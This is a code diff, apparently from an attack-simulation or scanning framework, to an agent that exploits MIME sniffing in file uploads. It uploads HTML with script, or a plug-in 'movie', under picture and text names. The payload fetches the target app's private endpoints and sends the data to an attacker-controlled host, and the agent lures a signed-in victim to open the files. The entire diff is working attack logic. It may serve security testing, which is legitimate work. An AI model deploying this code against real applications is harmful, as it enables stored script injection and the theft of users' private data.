@@ -1,6 +1,7 @@
 // mime-upload: uploads a page with a script under names and types of pictures and texts, and sends
 // the victim to it. What a browser takes for HTML or SVG runs with the rights of the app's origin
-// (OWASP File Upload Cheat Sheet; MIME Sniffing standard).
+// (OWASP File Upload Cheat Sheet; MIME Sniffing standard). An old browser's plug-in takes any file
+// for a movie that a page of the attacker's calls one.
 #include "core/attack/every_agent.h"
 #include "core/attack/page_script.h"
 #include "core/attack/stored_text.h"
@@ -18,17 +19,26 @@ class MimeUpload final : public Agent {
         std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                              send_script(Channel::Image, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
-            script += fetch_and_send(each->path, address);
-        auto const paths = upload(
+            script += fetch_and_send(app_origin(target) + each->path, address);
+        auto const pages = upload(
             target, "<!doctype html><title>A picture</title><script>" + script + "</script>");
-        if (paths.empty() || !victim_signs_in(target)) return;
-        for (std::string const& path : paths) {
-            bool const is_whole = path.find("://") != std::string::npos;
-            target.victim()->opens(is_whole ? path : app_origin(target) + path);
+        auto const movies = upload(target, script);
+        if (pages.empty() || !victim_signs_in(target)) return;
+        for (std::string const& path : pages) {
+            target.victim()->opens(whole(target, path));
             target.victim()->turns_away();
         }
-        target.note(std::to_string(paths.size()) + " uploaded files were opened by a link.");
+        // As a movie in a page of his own it would be a program of the app's host.
+        std::string html;
+        for (std::string const& path : movies) html += movie_html(whole(target, path));
+        for (OwnHost* host : {evil, sibling_host(target)})
+            if (host != nullptr) Lure(target, *host).show(html);
+        target.note(std::to_string(pages.size()) + " uploaded files were opened by a link.");
         try_loot(target, received_texts(target));
+    }
+
+    static std::string whole(Target const& target, std::string const& path) {
+        return path.find("://") != std::string::npos ? path : app_origin(target) + path;
     }
 };
 
